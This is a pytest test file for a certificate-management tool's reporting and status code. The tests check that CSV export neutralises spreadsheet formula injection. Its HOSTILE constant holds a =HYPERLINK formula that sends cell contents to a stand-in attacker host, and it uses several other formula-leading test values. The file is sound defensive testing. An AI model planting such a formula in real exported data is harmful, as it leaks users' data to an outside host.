"""`report` rows and formats (CSV neutralisation), `status` summary and status rules."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest

from certmgr.pki.findings import Code, Finding, Severity
from certmgr.services.report import ReportFormat, neutralise_cell, render_report, report_rows
from certmgr.services.scan import scan
from certmgr.services.status import Thresholds, days_left, mailbox_status, status_summary
from certmgr.store.enums import MailboxStatus
from certmgr.store.session import Store
from certmgr.testpki import PkiIndex

from .conftest import ACTOR, AT, add, bind, seed_trust, trust_loader

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
S = MailboxStatus


def _seed(store: Store, pki: PkiIndex) -> None:
    seed_trust(store, pki)
    add(store, "ok@ch.mssante.fr", org=HOSTILE)
    bind(store, "ok@ch.mssante.fr", "el-org-auth-valid", pki)
    add(store, "rev@ch.mssante.fr", org=HOSTILE)
    bind(store, "rev@ch.mssante.fr", "el-org-auth-revoked", pki)
    add(store, "soon@ch.mssante.fr", org=HOSTILE, app="-2+3")
    bind(store, "soon@ch.mssante.fr", "el-org-auth-expiring-7d", pki)
    add(store, "none@ch.mssante.fr", org=HOSTILE)
    scan(store=store, at=AT, actor=ACTOR, trust_loader=trust_loader(), processes=1)


def test_report_rows_and_csv_neutralisation(store: Store, pki: PkiIndex) -> None:
    _seed(store, pki)
    rows = report_rows(store=store)
    assert [(r.address.split("@")[0], r.status) for r in rows] == [
        ("none", S.NO_CERTIFICATE), ("ok", S.OK), ("rev", S.REVOKED), ("soon", S.CRITICAL)]
    rev = rows[2]
    assert rev.findings == ("REVOKED",)
    assert rev.issuer_cn == "AC IGC-SANTE ELEMENTAIRE ORGANISATIONS"
    assert rev.serial == f"{pki['el-org-auth-revoked'].serial:X}"
    text = render_report(rows, fmt=ReportFormat.CSV)
    parsed = list(csv.DictReader(io.StringIO(text)))
    assert {r["structure"] for r in parsed} == {"'" + HOSTILE}
    assert parsed[3]["application"] == "'-2+3"
    assert parsed[3]["days_left"] == "7"
    assert parsed[0]["serial"] == ""
    assert parsed[2]["findings"] == "REVOKED"
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in parsed for cell in r.values())


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("plain", "plain"), (-3, -3), (None, None),
])
def test_neutralise_cell(value: object, expected: object) -> None:
    assert neutralise_cell(value) == expected


def test_json_and_markdown(store: Store, pki: PkiIndex) -> None:
    _seed(store, pki)
    rows = report_rows(store=store)
    data = json.loads(render_report(rows, fmt=ReportFormat.JSON))
    assert data[1]["structure"] == HOSTILE  # JSON is data: nothing to neutralise
    assert data[2]["findings"] == ["REVOKED"]
    md = render_report(rows, fmt=ReportFormat.MD).splitlines()
    assert md[0].startswith("| address | idnat |")
    assert len(md) == 2 + len(rows)
    assert "rev@ch.mssante.fr" in md[4]


def test_status_summary(store: Store, pki: PkiIndex) -> None:
    _seed(store, pki)
    summary = status_summary(store=store, at=AT, limit=2)
    assert summary.counts[S.OK] == 1
    assert summary.counts[S.CRITICAL] == 1
    assert summary.total == 4
    valid_until = pki["el-org-auth-valid"].not_after or AT
    assert [(e.address, e.days_left) for e in summary.next_expiries] == [
        ("soon@ch.mssante.fr", 7), ("ok@ch.mssante.fr", days_left(valid_until, at=AT))]
    assert summary.last_scan == AT
    assert summary.crls
    assert all(c.fresh for c in summary.crls)
    later = status_summary(store=store, at=AT + dt.timedelta(days=7))
    assert not any(c.fresh for c in later.crls)
    assert later.to_json()["crls"][0]["fresh"] is False


def test_status_summary_of_an_empty_store(store: Store) -> None:
    summary = status_summary(store=store, at=AT)
    assert summary.total == 0
    assert summary.last_scan is None
    assert summary.crls == ()


def _f(code: Code, severity: Severity = Severity.ERROR) -> Finding:
    return Finding(code, severity, "x")


@pytest.mark.parametrize(("findings", "offset", "expected"), [
    ((_f(Code.REVOKED), _f(Code.EXPIRED)), -10, S.REVOKED),
    ((_f(Code.EXPIRED), _f(Code.BAD_SIGNATURE)), -10, S.EXPIRED),
    ((_f(Code.BAD_SIGNATURE),), 100, S.INVALID),
    ((_f(Code.CRL_STALE, Severity.WARNING),), 100, S.OK),
    ((_f(Code.PROFILE_EKU),), 5, S.INVALID),
    ((), 5, S.CRITICAL),
])
def test_status_rule_order(findings: tuple[Finding, ...], offset: int,
                           expected: MailboxStatus) -> None:
    not_after = AT + dt.timedelta(days=offset)
    status, _ = mailbox_status(findings, not_after=not_after, at=AT, thresholds=Thresholds())
    assert status is expected


def test_thresholds_are_checked() -> None:
    with pytest.raises(ValueError, match="critical_days <= renew_soon_days"):
        Thresholds(renew_soon_days=10, critical_days=30)
